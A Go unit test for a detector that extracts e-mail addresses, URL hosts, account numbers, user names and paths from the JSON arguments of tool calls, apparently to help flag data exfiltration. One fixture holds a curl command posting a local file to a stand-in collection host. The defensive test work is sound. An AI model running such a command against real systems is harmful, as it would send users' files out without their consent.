package detect

import (
	"slices"
	"testing"
)

func TestCallTargets(t *testing.T) {
	t.Parallel()
	tests := []struct {
		desc string
		args string
		want []string
	}{
		{"an e-mail address in a recipient field", `{"to":"Amy.Watson@Mailbox.example"}`, []string{"amy.watson@mailbox.example"}},
		{"the host of a URL inside a command", `{"command":"curl -d @x https://Collect.Example.net/in?a=1"}`, []string{"collect.example.net"}},
		{"an account number grouped with hyphens", `{"account":"123-1234-1234"}`, []string{"123-1234-1234"}},
		{"an account number written whole", `{"iban_like":"acct 9988776655"}`, []string{"9988776655"}},
		{"a user name mixing letters and digits, nested in an array", `{"guests":["guest_amy01"]}`, []string{"guest_amy01"}},
		{"a path", `{"dst":"/tmp/drop_zone"}`, []string{"/tmp/drop_zone"}},
		{"a home path", `{"src":"~/Documents/Private"}`, []string{"~/documents/private"}},
		{"nothing in plain words and small numbers", `{"body":"Thanks, see you at 10 on Friday","amount":3000}`, nil},
		{"nothing in a short code", `{"id":"a1"}`, nil},
		{"nothing in arguments that are not JSON", `not json`, nil},
	}
	for _, tc := range tests {
		t.Run(tc.desc, func(t *testing.T) {
			t.Parallel()
			got := callTargets([]byte(tc.args))
			for _, w := range tc.want {
				if !slices.Contains(got, w) {
					t.Errorf("callTargets(%s) = %q, want it to hold %q", tc.args, got, w)
				}
			}
			if tc.want == nil && len(got) > 0 {
				t.Errorf("callTargets(%s) = %q, want none", tc.args, got)
			}
		})
	}
}
